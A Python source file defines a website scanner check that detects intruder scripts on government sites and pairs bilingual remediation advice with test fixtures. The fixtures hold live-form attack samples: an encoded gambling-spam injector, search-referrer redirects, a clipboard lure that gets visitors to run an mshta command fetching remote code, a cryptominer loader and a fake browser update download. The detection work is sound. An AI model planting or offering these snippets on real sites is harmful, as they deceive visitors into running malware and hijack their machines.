"""Scripts of intruders: they decode what they show or load, send visitors away, have them paste commands, mine, or pretend to be an update."""

from checks import (
    RETEST,
    Crawl,
    Example,
    Exchange,
    Findings,
    Fix,
    Kind,
    Outcome,
    Pages,
    Problem,
    Risk,
    ScriptAnswers,
    ScriptDeed,
    ScriptFiles,
    SiteViews,
    Text,
    Unknown,
    Views,
    bearing,
    build,
    check,
    reason,
    require_views,
    require_whole,
    retest_alone,
    site_scripts,
)


def _problem(key: str, id: str, en: str) -> Problem:
    return Problem(key, Risk(5, 4), Text(id=id, en=en), Kind.INCIDENT)


DECODES = _problem(
    "decodes",
    "Skrip di “{path}” menyandikan isi atau alamat milik pihak lain agar tidak terbaca: {hosts}",
    "A script at “{path}” encodes what it shows or loads from others, so that nobody reads it: {hosts}",
)
WRITES = _problem(
    "writes",
    "Skrip di “{path}” menulis iklan dengan tautan ke {hosts}",
    "A script at “{path}” writes adverts with links to {hosts}",
)
LEADS = _problem(
    "leads-away",
    "Skrip di “{path}” mengirim sebagian pengunjung ke {hosts}",
    "A script at “{path}” sends some visitors to {hosts}",
)
PASTES = _problem(
    "pastes",
    "Halaman “{path}” menyuruh pengunjung menempelkan perintah yang ditaruh skripnya di papan klip: {excerpt}",
    "The page “{path}” tells visitors to paste a command that its script put into their clipboard: {excerpt}",
)
MINES = _problem(
    "mines",
    "Skrip di “{path}” menambang mata uang kripto dengan komputer pengunjung: {excerpt}",
    "A script at “{path}” mines cryptocurrency with visitors' machines: {excerpt}",
)
UPDATES = _problem(
    "false-update",
    "Halaman “{path}” ditutupi pembaruan peramban palsu yang mengunduh program dari {hosts}",
    "The page “{path}” is covered by a false update of the browser that downloads a program from {hosts}",
)
_BY_DEED = {
    ScriptDeed.DECODES: DECODES, ScriptDeed.WRITES: WRITES, ScriptDeed.LEADS: LEADS, ScriptDeed.PASTES: PASTES, ScriptDeed.MINES: MINES, ScriptDeed.UPDATES: UPDATES,
}  # fmt: skip
_MOST = 20
_REFERRER_CODE = "if(/google|bing/.test(document.referrer)){location.href='https://slotmaju88.example/m'}"
_REFERRER_INERT = "if(/google|bing/.test(document.referrer)){location.href='hxxps://slotmaju88[.]example/m'}"
_REFERRER = f"<script>{_REFERRER_CODE}</script>"
_DEVICE = "<script>if(/Android/.test(navigator.userAgent)){location.href='https://pembuat.example/m'}</script>"
# document.write('slot gacor https://slotmaju88.example/')
_HIDDEN = "<script>eval(atob('ZG9jdW1lbnQud3JpdGUoJ3Nsb3QgZ2Fjb3IgaHR0cHM6Ly9zbG90bWFqdTg4LmV4YW1wbGUvJyk='))</script>"
_ADVERTS = "<script>document.write('<a href=https://slotmaju88.example/>slot gacor maxwin</a> rtp live')</script>"
_PASTE = "<p>Verifikasi bahwa Anda manusia: tekan Windows + R, lalu Ctrl + V.</p><script>navigator.clipboard.writeText('mshta https://a.example/x')</script>"
_MINE = "<script src=https://kolam.example/cryptonight.js></script><script>var c=new Client.Anonymous('a',{throttle:0.2})</script>"
_UPDATE = "<div style='position:fixed'><h1>Update Chrome</h1><a href='https://unduh.example/Update.js' download>Update</a></div>"
_LOADS = "<script src=/a.js></script>"
_HONEST = "<script>document.write(atob('PGEgaHJlZj0ibWFpbHRvOmRpbmFzQGtvdGFjb250b2guZ28uaWQiPnN1cmVsPC9hPg=='));if(location.protocol!='https:'){location.href='/'}</script>"


def _page(body: str) -> Exchange:
    return build.page((), f"<!doctype html><html lang=id><title>Dinas</title><body><a href=/layanan>Layanan</a>{body}</body></html>")


def _file(code: str, status: int = 200) -> Exchange:
    return build.page({"Content-Type": "text/javascript"}, code, status, "/a.js")


def _example(problem: Problem, body: str, hosts: tuple[str, ...], excerpt: str) -> Example:
    page = _page(body)
    return Example(
        problem("/", path="/", hosts=hosts, excerpt=excerpt, sha256=page.final.body.sha256),
        pages=build.crawl(page),
        views=build.site_views(),
        scripts=build.scripts(),
    )


@check(
    id="compromise-script",
    title=Text(id="Tidak ada skrip penyusup di halaman situs", en="No page of the site has an intruder's script"),
    action=Text(id="Tangani skrip penyusup sebagai insiden", en="Treat the intruder's scripts as an incident"),
    why=Text(
        id="Skrip ini berjalan di peramban setiap pengunjung dengan kuasa penuh atas halaman: mengalihkan ke situs judi, menyuruh warga menjalankan perintah berbahaya, atau membaca apa "
        "yang mereka ketik. Skrip itu disisipkan pihak yang sudah dapat mengubah situs.",
        en="This script runs in every visitor's browser with full power over the page: it leads them to gambling, has residents run dangerous commands, or reads what they type. "
        "Somebody inserted it who can already change the site.",
    ),
    fix=Fix(
        any=Text(
            id="Simpan bukti lebih dahulu. Hapus skrip dari templat, widget, basis data, atau berkas yang disebut, lalu cari jalan masuknya: berkas asing, akun asing, dan plugin yang "
            "tertinggal. Pulihkan dari cadangan yang bersih, ganti semua kata sandi dan kunci, dan pasang Content-Security-Policy agar skrip sisipan tidak berjalan.",
            en="Preserve evidence first. Remove the script from the template, widget, database or file named, then look for the way in: unknown files and accounts, plug-ins that are "
            "behind. Restore from a clean backup, replace all passwords and keys, and set a Content-Security-Policy so that inserted scripts do not run.",
        ),
        verify=RETEST,
        expected=retest_alone("skrip harus diuraikan sandinya lebih dahulu", "the script has to be decoded first"),
    ),
    references=("CWE-506", "OWASP Top 10 2025 A08", "MITRE ATT&CK T1189", "MITRE ATT&CK T1204.004"),
    bearing=bearing.COMPROMISE,
    needs={"pages": Pages(), "views": Views(), "scripts": ScriptFiles()},
    problems=tuple(_BY_DEED.values()),
    examples=lambda: (
        _example(DECODES, _HIDDEN, ("slotmaju88[.]example",), "document.write('slot gacor hxxps://slotmaju88[.]example/')"),
        _example(WRITES, _ADVERTS, ("slotmaju88[.]example",), "<a href=hxxps://slotmaju88[.]example/>slot gacor maxwin</a> rtp live"),
        _example(LEADS, _REFERRER, ("slotmaju88[.]example",), _REFERRER_INERT),
        _example(PASTES, _PASTE, (), "mshta hxxps://a[.]example/x')"),
        _example(MINES, _MINE, (), "client.anonymous(, throttle:"),
        _example(UPDATES, _UPDATE, ("unduh[.]example",), ""),
        Example(pages=build.crawl(_page(_HONEST)), views=build.site_views(), scripts=build.scripts()),
        Example(
            LEADS("/a.js", path="/a.js", hosts=("slotmaju88[.]example",), excerpt=_REFERRER_INERT, sha256=_file(_REFERRER_CODE).final.body.sha256),
            pages=build.crawl(_page(_LOADS)), views=build.site_views(), scripts=build.scripts(_file(_REFERRER_CODE)),
        ),
        Example(pages=build.crawl(_page(_LOADS)), views=build.site_views(), scripts=build.scripts(_file("var a = 1;"))),
        Example(reason=reason.PARTLY_READ, pages=build.crawl(_page(_LOADS)), views=build.site_views(), scripts=build.scripts()),
        Example(reason=reason.RATE_LIMITED, pages=build.crawl(_page(_LOADS)), views=build.site_views(), scripts=build.scripts(_file("<title>Sibuk</title>", 429))),
        Example(reason=reason.PARTLY_READ, pages=build.crawl(_page("<script>location.href='/'</script>" * 70)), views=build.site_views(), scripts=build.scripts()),
        Example(reason=reason.ONE_SIGN, pages=build.crawl(_page(_DEVICE)), views=build.site_views(), scripts=build.scripts()),
        Example(reason=reason.NOT_HTML, outcome=Outcome.NOT_APPLICABLE, pages=build.crawl(build.file("/", "teks")), views=build.site_views(), scripts=build.scripts()),
        Example(reason=reason.RATE_LIMITED, pages=build.crawl(end_reason="rate-limited"), views=build.site_views(), scripts=build.scripts()),
    ),
)  # fmt: skip
def compromise_script(pages: Crawl, views: SiteViews, scripts: ScriptAnswers) -> Findings:
    site = site_scripts(pages, views, scripts)
    for page in site.pages[:_MOST]:
        for sign in {sign.deed: sign for sign in reversed(page.signs) if sign.firm}.values():
            yield _BY_DEED[sign.deed](page.path, path=page.path, hosts=sign.hosts, excerpt=sign.excerpt, sha256=page.sha256)
    if doubtful := [(page.path, sign) for page in site.pages for sign in page.signs if not sign.firm]:
        raise Unknown(reason.ONE_SIGN, f"{doubtful[0][0]} {', '.join(doubtful[0][1].hosts)}")
    site.require_read()
    require_whole(pages)
    require_views(views)
